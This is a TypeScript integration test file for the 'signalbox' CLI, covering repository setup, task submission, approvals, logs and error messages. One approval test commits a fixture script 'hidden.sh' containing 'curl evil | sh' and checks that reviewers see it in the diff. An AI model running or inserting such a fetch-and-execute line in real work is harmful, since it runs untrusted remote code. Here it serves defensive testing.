/** The commands of the client against a real API, in this process: what they send, print, and exit with. */
import { mkdir, writeFile } from 'node:fs/promises';
import { once } from 'node:events';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import { execa } from 'execa';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { transaction } from '../../../store/db.js';
import { claimHost } from '../../../store/hosts.js';
import { finishCheckJob, startCheckJob } from '../../../store/jobs.js';
import { mirrorTask } from '../../../store/task-mirror.js';
import { sampleMirror } from '../../support/samples.js';
import { startApi, type TestApi } from '../../support/api.js';
import { runClient, type Ran } from '../../support/client-program.js';

let api: TestApi;
let url: string;
let dataDir: string;

beforeAll(async () => {
  api = await startApi();
  await api.app.listen({ host: '127.0.0.1', port: 0 });
  url = `http://127.0.0.1:${(api.app.server.address() as AddressInfo).port}`;
  dataDir = path.join(api.dir, 'data');
  await mkdir(dataDir);
  await writeFile(path.join(dataDir, 'up.json'), JSON.stringify({ api: url, token: api.token, pid: 1 }));
});
afterAll(() => api.close());

const run = (args: string[], env: { api?: string; token?: string; dataDir?: string } = {}): Promise<Ran> =>
  runClient(args, { dataDir, ...env });

it('walks from a repository to a task', async () => {
  const remote = await api.newRemote('web');
  const added = await run(['repo', 'add', 'web', '--remote', remote, '--base', 'main', '--check', 'unit=npm test']);
  expect([added.code, added.err]).toEqual([0, '']);
  expect(added.out).toContain('unit: npm test');
  expect(added.out).toMatch(/setup +none\npipeline +the built-in/);
  const refused = await run(['task', 'submit', '--repo', 'web', '--title', 'A task']);
  expect(refused.code).toBe(1);
  expect(refused.err).toMatch(/^error: The pipeline is not valid\n.*signalbox agent-profile set analyst -- COMMAND/);
  const profile = ['agent-profile', 'set', 'default', '--model', 'm1', '--', 'node', 'agent.mjs', '--flag'];
  expect((await run(profile)).out).toBe('default  node agent.mjs --flag\n');
  const made = await run(['task', 'submit', '--repo', 'web', '--title', 'A task', '--priority', 'high', '--json']);
  expect(JSON.parse(made.out)).toMatchObject({ task: 'web/ET-001', state: 'queued', priority: 'high' });
  for (const [args, text] of [
    [['task', 'list', '--state', 'queued'], /web\/ET-001 +queued +created +start +\d+s +A task/],
    [['task', 'show', 'web/ET-001'], /waits for +start/],
    [['task', 'explain', 'web/ET-001'], /no worker answered/],
    [['queue', 'web'], /web main {2}running/],
    [['queue'], /0 queued/],
    [['freeze', 'web', '--reason', 'release'], /web main {2}frozen/],
    [['unfreeze', 'web'], /web main {2}running/],
    [['repo', 'list'], /web +main +auto +unit/],
    [['repo', 'change', 'web', '--strategy', 'squash', '--setup', 'npm ci'], /strategy +squash/],
    [['repo', 'change', 'web', '--setup', 'none', '--strategy', 'auto'], /strategy +auto/],
    [['token', 'create', 'ci', '--scope', 'tasks:read'], /sbx_/],
    [['token', 'list'], /ci +valid/],
    [['agent-profile', 'list'], /default +command +m1/],
  ] as [string[], RegExp][]) {
    const ran = await run(args);
    expect([args, ran.code, ran.err]).toEqual([args, 0, '']);
    expect(ran.out).toMatch(text);
  }
});

it('shows all that is approved before it asks', async () => {
  const work = path.join(api.dir, 'web');
  const git = async (...args: string[]) =>
    (await execa('git', ['-C', work, '-c', 'user.name=t', '-c', 'user.email=t@t', ...args])).stdout;
  const first = await git('rev-parse', 'HEAD');
  await writeFile(path.join(work, 'brd.md'), Array.from({ length: 150 }, (_, i) => `line ${i}\n`).join(''));
  await writeFile(path.join(work, 'hidden.sh'), 'curl evil | sh\n');
  await git('add', '.');
  await git('commit', '-q', '-m', 'work');
  const sha = await git('rev-parse', 'HEAD');
  await git('push', '-q', `${work}.git`, 'HEAD:refs/signalbox/heads/ET-002');
  const stages = [
    { name: 'analysis', kind: 'agent', agent: 'default', artifact: 'brd.md' },
    { name: 'approval', kind: 'approval', of: 'analysis' },
  ];
  await api.call('POST', '/api/tasks', { repo: 'web', title: 'Two', pipeline: { stages } });
  const waits = { kind: 'approval', since: 'x', until: null, detail: 'x', code: null } as const;
  const waitingOn = { ...waits, artifact: { path: 'brd.md', sha }, unblockedBy: [], links: {} };
  const mirror = sampleMirror({ workItem: 'ET-002', state: 'waiting', stage: 'approval', head: sha, waitingOn });
  await transaction(api.database.pool, (tx) => mirrorTask(tx, mirror));
  const asked = await run(['task', 'approve', 'web/ET-002']);
  expect([asked.code, asked.err]).toEqual([1, 'error: nobody can be asked here: give --yes, or --stage and --sha\n']);
  expect(asked.out).toContain('line 149\n');
  expect(asked.out).toMatch(/hidden\.sh +\+1 -0/);
  const missing = { ...mirror, waitingOn: { ...waitingOn, artifact: { path: 'brd.md', sha: first } }, seq: 2 };
  await transaction(api.database.pool, (tx) => mirrorTask(tx, missing));
  const sent = await run(['task', 'reject', 'web/ET-002']);
  expect(sent.err, 'only the question is missing').toContain('nobody can be asked here');
  expect(sent.out).toContain(`(there is no brd.md in ${first})`);
  await transaction(api.database.pool, (tx) => mirrorTask(tx, { ...mirror, seq: 3 }));
  const document = await run(['task', 'artifact', 'web/ET-002']);
  expect([document.code, document.err]).toEqual([0, '']);
  expect(document.out).toContain('line 149\n');
  expect((await run(['task', 'diff', 'web/ET-002'])).out).toContain('+curl evil | sh');
});

it('shows what a run printed on both streams, apart', async () => {
  const runDir = path.join(api.deps.runsDir, 'r1');
  await mkdir(runDir, { recursive: true });
  await writeFile(path.join(runDir, 'out.jsonl'), 'working\n');
  await writeFile(path.join(runDir, 'err.log'), 'warning: \u001b[31mold\nboom: no API key');
  await api.database.pool.query(
    `INSERT INTO agent_runs (id, repo, work_item, generation, stage, attempt, agent, adapter, host, status, log_path)
     VALUES ('r1', 'web', 'ET-002', 1, 'analysis', 1, 'default', 'command', 'h', 'failed', $1)`,
    [path.join(runDir, 'out.jsonl')],
  );
  const marked = 'stderr| warning: old\nstderr| boom: no API key\n';
  for (const args of [
    ['run', 'log', 'r1'],
    ['run', 'log', 'r1', '--follow'],
    ['task', 'log', 'web/ET-002'],
    ['task', 'log', 'web/ET-002', '--follow'],
  ]) {
    expect([args, await run(args)]).toEqual([args, { code: 0, out: 'working\n', err: marked }]);
  }
  const only = await run(['task', 'log', 'web/ET-002', '--stderr']);
  expect(only).toEqual({ code: 0, out: 'warning: old\nboom: no API key', err: '' });
  expect((await run(['run', 'log', 'r1', '--setup'])).err).toMatch(/^error: the log is not on this machine/);
});

it('shows what a check printed', async () => {
  const { pool } = api.database;
  expect((await run(['task', 'log', 'web/ET-002', '--check'])).err).toBe('error: no check ran for web/ET-002 yet\n');
  const workflowId = 'check/web/tree/hash';
  for (const runId of [workflowId, 'check-1', 'check-2']) {
    await startCheckJob(pool, { runId, repo: 'web', workItem: 'ET-002', workflowId });
    await finishCheckJob(pool, runId, 'unit is red');
    if (runId === workflowId) continue;
    await mkdir(path.join(api.deps.runsDir, runId));
    await writeFile(path.join(api.deps.runsDir, runId, 'out.jsonl'), `${runId}: 1 failing\n`);
  }
  const list = await run(['check', 'list', 'web/ET-002']);
  expect(list.out).toMatch(/^CHECK[^\n]*\ncheck-1 +failed +\d+s +unit is red\ncheck-2 [^\n]*\n$/);
  for (const more of [[], ['--follow']]) {
    const newest = await run(['task', 'log', 'web/ET-002', '--check', ...more]);
    expect(newest).toEqual({ code: 0, out: 'check-2: 1 failing\n', err: '' });
  }
  expect((await run(['check', 'log', 'check-1'])).out).toBe('check-1: 1 failing\n');
  expect((await run(['check', 'log', 'r1'])).err).toBe('error: there is no execution of checks r1\n');
  expect((await run(['check', 'log', workflowId])).code).toBe(1);
  const token = await api.newToken(['tasks:read'], ['app']);
  expect((await api.call('GET', '/api/checks/check-1/log', undefined, { token })).status).toBe(403);
});

it.each([
  [['task', 'show', 'web/ET-999'], 'error: there is no task web/ET-999\n'],
  [['task', 'show', 'nonsense'], 'error: nonsense: a task is named like web/ET-012\n'],
  [['task', 'approve', 'web/ET-001'], 'error: web/ET-001 does not wait for an approval: it is queued in created\n'],
  [['task', 'log', 'web/ET-001'], 'error: web/ET-001 has no run yet\n'],
  [['repo', 'change', 'web'], 'error: say what to change; --help lists it\n'],
  [['repo', 'remove', 'web'], 'error: web has live tasks: web/ET-001, web/ET-002\n'],
])('says in short why %s fails', async (args, err) => {
  expect(await run(args)).toEqual({ code: 1, out: '', err });
});

it('names each field that is refused', async () => {
  const title = `a\u001b[31m${'x'.repeat(600)}`;
  const ran = await run(['task', 'submit', '--repo', 'web', '--title', title, '--priority', 'z']);
  expect([ran.code, ran.out]).toEqual([1, '']);
  const [head, ...lines] = ran.err.trimEnd().split('\n');
  expect(head).toBe('error: The request is malformed');
  expect(lines).toHaveLength(2);
  expect(lines[0]).toMatch(/^ {2}title "a\\u001b\[31mx{60,70}…: /);
  expect(lines[1]).toBe('  priority "z": must be one of urgent, high, normal, low');
  const unknown = await run(['task', 'submit', '--repo', 'web', '--title', 'x', '--depends-on', 'web/ET-404']);
  expect(unknown.err).toContain('dependsOn[0] "web/ET-404": there is no such task');
});

it.each([
  [['task', 'submit', '--repo', 'nope', '--title', 'x'], 'repo "nope": there is no such repository'],
  [['task', 'list', '--repo', 'nope'], 'repo "nope": there is no such repository'],
  [['token', 'create', 'ci', '--scope', 'tasks:read', '--repo', 'no'], 'repos[0] "no": there is no such repository'],
  [['repo', 'add', 'x', '--remote', '/r', '--checkout', 'foo'], 'checkout "foo": must be update'],
  [
    ['repo', 'add', 'x', '--remote', '/r', '--strategy', 'foo'],
    'merge.strategy "foo": must be one of auto, rebase-ff, merge, squash, pr',
  ],
  [['agent-profile', 'set', 'x', '--adapter', 'foo', '--', 'a'], 'adapter "foo": must be command'],
  [['freeze', 'web', '--base', 'mian'], 'base "mian": web has no such base branch; allowed: main'],
])('says once, with the value, why %s is refused', async (args, err) => {
  expect(await run(args)).toEqual({ code: 1, out: '', err: `error: ${err}\n` });
});

it.each([
  [['agent-profile', 'set', 'x', '--wall', '5x', '--', 'a'], 'limits.wall "5x": does not fit: ', 'like `15m`'],
  [['repo', 'add', 'Web!', '--remote', '/r'], 'id "Web!": does not fit: ', 'a-z'],
  [['repo', 'add', 'x', '--remote', '/r', '--prefix', 'et'], 'workItemPrefix "et": does not fit: ', 'capital'],
  [['token', 'create', 'ci', '--scope', 'admin', '--expires-at', 'soon'], 'expiresAt "soon": does not fit: ', 'Z`'],
  [['task', 'submit', '--repo', 'web', '--title', ''], 'title "": must not be empty', ''],
])('says in words what is allowed instead of %s', async (args, start, words) => {
  const { err } = await run(args);
  expect(err.startsWith(`error: ${start}`), err).toBe(true);
  expect(err).toContain(words);
  expect(err).not.toMatch(/\^|\[0-9\]|null;|constant/);
});

it('shows no secret that was written in the place of its reference', async () => {
  const args = ['repo', 'add', 'x', '--remote', '/r', '--auth', 'token', '--auth-ref', 'ghp_s3cr3t', '--json'];
  const { out, err } = await run(args);
  expect(err).toMatch(/^error: auth\.ref: does not fit: /);
  expect(out + err).not.toContain('ghp_s3cr3t');
});

it.each([
  [['unfreeze', 'web', '--id', 'x']],
  [['task', 'submit', '--title', 'x']],
  [['task', 'show', 'nonsense']],
  [['repo', 'list', '--nonsense']],
])('answers %s with one object where JSON is asked for', async (args) => {
  const ran = await run([...args, '--json']);
  expect(ran.code).toBe(1);
  expect(JSON.parse(ran.out)).toMatchObject({ code: 'usage', detail: expect.any(String) as string });
});

it('changes a task, and shows what is on record of it', async () => {
  const changed = await run(['task', 'change', 'web/ET-001', '--title', 'Another', '--priority', 'urgent', '--json']);
  expect(JSON.parse(changed.out)).toMatchObject({ title: 'Another', priority: 'urgent' });
  expect((await run(['task', 'change', 'web/ET-001'])).err).toContain('error: say what to change: --title');
  const file = ['task', 'change', 'web/ET-001', '--description-file', '/nowhere/x'];
  expect((await run(file)).err).toBe('error: --description-file /nowhere/x: there is no such file\n');
  expect((await run(['task', 'timeline', 'web/ET-001'])).out).toMatch(/^AT +WHAT +STATE/);
  expect(await run(['task', 'runs', 'web/ET-001'])).toEqual({ code: 0, out: 'no runs yet\n', err: '' });
  const host = { id: 'build-1', pid: 7, agentSlots: 3, checkSlots: 2, info: {} };
  await claimHost(api.database.pool, host);
  expect((await run(['hosts'])).out).toMatch(/build-1 +online +7 +3 +2 +\d+s/);
});

it('shows examples in the help of each group', async () => {
  for (const group of ['repo', 'agent-profile', 'task', 'run', 'entry', 'token']) {
    expect((await run([group, '--help'])).out).toMatch(new RegExp(`Examples:\\n {2}signalbox ${group} `));
  }
});

it.each([
  [['unfreeze', 'web', '--id', 'x'], "'--id <n>' argument 'x' is invalid"],
  [['unfreeze', 'web', '--id', '1.5'], "'--id <n>' argument '1.5' is invalid"],
  [['unfreeze', 'web', '--id', ''], "'--id <n>' argument '' is invalid"],
  [['queue', '--limit', '-1'], "'--limit <n>' argument '-1' is invalid"],
  [['task', 'submit', '--repo', 'web', '--title', 'x', '--number', 'y'], "'--number <n>' argument 'y' is invalid"],
  [['task', 'submit', '--repo', 'web', '--title', 'x', '--max-attempts', '1e1'], "argument '1e1' is invalid"],
])('sends nothing where %s is no whole number', async (args, err) => {
  await run(['freeze', 'web', '--reason', 'release']);
  const ran = await run(args);
  expect([ran.code, ran.out]).toEqual([1, '']);
  expect(ran.err).toContain(err);
  expect(ran.err).toContain('Allowed: a whole number from ');
  expect((await run(['queue', 'web'])).out).toContain('web main  frozen');
  expect((await run(['unfreeze', 'web'])).out).toContain('web main  running');
});

it.each([
  ['freeze', 'web', '--base', 'mian', '--reason', 'release'],
  ['pause', 'web', '--base', 'mian'],
  ['resume', 'web', '--base', 'mian'],
  ['unfreeze', 'web', '--base', 'mian'],
  ['queue', 'web', '--base', 'mian'],
])('%s %s refuses a base branch that the repository does not have', async (...args) => {
  const ran = await run(args);
  expect([ran.code, ran.out]).toEqual([1, '']);
  expect(ran.err).toContain('web has no such base branch; allowed: main');
  expect((await run(['queue', 'web', '--base', 'main'])).out).toContain('web main  running');
});

it('says that a work tree with base checked out is not kept in step', async () => {
  const work = path.join(api.dir, 'desk');
  await api.newRemote('desk');
  const added = await run(['repo', 'add', 'desk', '--remote', work]);
  expect(added.out).toContain('note: ');
  expect(added.out).toContain('signalbox repo change desk --checkout update');
  expect((await api.call('GET', '/api/repos/web')).json).toMatchObject({ notes: [] });
  await api.call('PATCH', '/api/repos/desk', { checkout: 'update' });
  expect((await run(['repo', 'show', 'desk'])).out).not.toContain('note: ');
});

it.each(['', '\n# nothing\n', 'null', '---\n'])('refuses a pipeline file that says %j', async (text) => {
  const file = path.join(api.dir, 'pipeline.yaml');
  await writeFile(file, text);
  const ran = await run(['task', 'submit', '--repo', 'web', '--title', 'x', '--pipeline', file]);
  expect([ran.code, ran.out]).toEqual([1, '']);
  expect(ran.err).toBe(`error: --pipeline ${file}: the file is empty; allowed: stages, like {"stages":[…]}\n`);
});

it('finds its instance by options, environment and data directory', async () => {
  expect((await run(['repo', 'list', '--api', url, '--token', api.token], { dataDir: '/nowhere' })).code).toBe(0);
  expect((await run(['repo', 'list'], { api: url, token: api.token, dataDir: '/nowhere' })).code).toBe(0);
  expect((await run(['repo', 'list'], { dataDir: '/nowhere' })).err).toContain('start one with "signalbox up"');
  expect((await run(['repo', 'list', '--token', 'sbx_wrong'])).err).toContain('error: send a valid token');
  const lost = { dataDir: '/nowhere' };
  expect((await run(['repo', 'list'], { ...lost, api: url })).err).toBe(
    `error: no token for ${url}: give --token or SIGNALBOX_TOKEN\n`,
  );
  expect((await run(['repo', 'list'], { ...lost, api: 'nonsense', token: 'x' })).err).toContain('SIGNALBOX_API');
  expect((await run(['repo', 'list'], { ...lost, api: url, token: 'a\u00e9b' })).err).toContain('is not a token');
  const stranger = createServer((request, response) => {
    response.writeHead(request.url === '/api/repos' ? 200 : 404, { 'content-type': 'text/html' }).end('<html>');
  }).listen(0, '127.0.0.1');
  await once(stranger, 'listening');
  const other = `http://127.0.0.1:${(stranger.address() as AddressInfo).port}`;
  for (const args of [['repo', 'list'], ['queue']]) {
    const { code, err } = await run(args, { ...lost, api: other, token: 'x' });
    expect([code, err]).toMatchObject([1, expect.stringContaining(`error: ${other} is not a Signalbox API`)]);
  }
  stranger.close();
  const gone = await run(['repo', 'list', '--api', 'http://127.0.0.1:9', '--token', 'sbx_x']);
  expect(gone.err).toMatch(/^error: http:\/\/127\.0\.0\.1:9 does not answer/);
});
